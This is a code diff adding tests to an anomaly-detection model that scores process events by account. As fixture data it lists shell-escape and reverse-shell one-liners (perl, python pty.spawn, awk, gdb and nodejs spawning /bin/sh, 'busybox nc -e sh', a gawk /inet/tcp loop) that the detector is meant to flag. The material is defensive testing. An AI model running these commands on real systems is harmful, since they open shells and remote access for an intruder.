@@ -281,6 +281,59 @@ t.test('rarity: in a pooled baseline, the values of an account that logs in coun
   );
 });
 
+t.test("rarity: a person account's code run by an interpreter is weighed as anyone's (review7)", async (t) => {
+  // review7 replayed GTFOBins one-liners as the scenario set's operator: `perl -e exec
+  // '/bin/sh'`, `python3 -c pty.spawn`, `awk BEGIN{system()}`, `busybox nc -e sh` scored 0.204
+  // before the person discount and 0.601 after it. A new interpreter running code given as
+  // its arguments is not a person's new tool: its values count in full
+  const DAY = 86400;
+  const start = 1_790_000_000 - (1_790_000_000 % DAY);
+  const proc = (who: string, exe: string, cmd: string, time: number): BehaviourEvent => ({
+    key: `exec ${exe} <- /bin/bash`,
+    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `cmd=${cmd}`, 'exeloc=system', `who=${who}`],
+    pairs: [`parent=/bin/bash>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`, `who=${who}>exeloc=system`, `who=${who}>kind=process`],
+    text: '',
+    time,
+  });
+  const login = (who: string, time: number): BehaviourEvent => ({
+    key: 'login pts from private:10.40',
+    values: ['kind=login', 'net=internal', `who=${who}`],
+    pairs: [`who=${who}>kind=login`, `who=${who}>net=internal`],
+    text: '',
+    time,
+  });
+  const train: BehaviourEvent[] = [];
+  for (let d = 0; d < 10; d++) {
+    const day = start + d * DAY;
+    train.push(login('ops', day + 9 * 3600));
+    for (let i = 0; i < 60; i++) {
+      const [exe, cmd] = [
+        ['/usr/bin/tail', 'tail -n <*> <*>'],
+        ['/usr/bin/grep', 'grep -c <*> <*>'],
+        ['/usr/bin/df', 'df -h'],
+      ][i % 3];
+      train.push(proc('ops', exe, cmd, day + 9 * 3600 + i * 60), proc('svc', exe, cmd, day + 9 * 3600 + i * 60 + 30));
+    }
+  }
+  const m = createModel('rarity');
+  await m.fit(train.map((e) => [e]));
+  const at = start + 10 * DAY + 10 * 3600;
+  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
+  const tool = await score(proc('ops', '/usr/bin/htop', 'htop', at));
+  const toolOfService = await score(proc('svc', '/usr/bin/htop', 'htop', at));
+  t.ok(tool.value < 0.6 * toolOfService.value, `a person's new tool still counts half (${tool.value.toFixed(2)} against ${toolOfService.value.toFixed(2)})`);
+  for (const [exe, cmd] of [
+    ['/usr/bin/perl', "perl -e exec '/bin/sh'"],
+    ['/usr/bin/python<n>', "python3 -c import pty;pty.spawn('/bin/sh')"],
+    ['/usr/bin/awk', 'awk BEGIN{system("/bin/sh")}'],
+    ['/usr/bin/busybox', 'busybox nc <*> <*> -e sh'],
+  ]) {
+    const person = await score(proc('ops', exe, cmd, at));
+    const service = await score(proc('svc', exe, cmd, at));
+    t.ok(person.value > 0.9 * service.value, `${cmd}: the person's (${person.value.toFixed(2)}) weighs as the service account's (${service.value.toFixed(2)})`);
+  }
+});
+
 t.test('rarity: new options of a program the account runs count half, unless the arguments are code or an account', async (t) => {
   // the host baseline's events of two accounts: a developer's tools, and root's cron shell
   // and sshd's fork for the developer's sessions
@@ -321,6 +374,28 @@ t.test('rarity: new options of a program the account runs count half, unless the
   );
   t.ok(account.value > options.value + 2, `nor is sshd's fork for an account never logged in here (${account.value.toFixed(2)})`);
   t.ok(place.value > program.value, `new options that point at the accounts (${place.value.toFixed(2)}) are not discounted`);
+  // review7: the extractor generalises a version in a program's name (`python3` is
+  // `python<n>`), and awk, gdb and nodejs run code given as arguments: none is an option
+  const interpreters = [
+    ['/usr/bin/python<n>', 'python3 manage.py test', "python3 -c import pty;pty.spawn('/bin/sh')"],
+    ['/usr/bin/perl<n>.<n>', 'perl5.36 report.pl', "perl5.36 -e exec '/bin/sh'"],
+    ['/usr/bin/gawk', 'gawk {print $2} access.log', 'gawk BEGIN{s="/inet/tcp/<*>/<*>/<*>";while(1){s|&getline c;print c|&s}}'],
+    ['/usr/bin/nodejs', 'nodejs server.js', "nodejs -e require('child_process').spawn('/bin/sh')"],
+    ['/usr/bin/gdb', 'gdb ./app core', "gdb -nx -ex python import os;os.system('/bin/sh') -ex quit"],
+  ];
+  const withTools = createModel('rarity');
+  const more = interpreters.map(([exe, cmd]) => ['dana', exe, '/bin/bash', cmd]);
+  const train2: BehaviourEvent[] = [];
+  for (let d = 0; d < 10; d++)
+    for (let i = 0; i < 200; i++) {
+      const r = [...routine, ...more][i % (routine.length + more.length)] as [string, string, string, string];
+      train2.push(proc(...r, start + d * DAY + i * 60));
+    }
+  await withTools.fit(train2.map((e) => [e]));
+  for (const [exe, , attack] of interpreters) {
+    const s = (await withTools.score([{ event: proc('dana', exe, '/bin/bash', attack, at), context: [] }]))[0];
+    t.notMatch(s.detail, /new options of a known program/, `${exe}'s new code is not new options (${s.value.toFixed(2)}: ${s.detail})`);
+  }
 });
 
 /** hashEvent as it was written first: each token built as a string, hashed whole, summed in a Map */
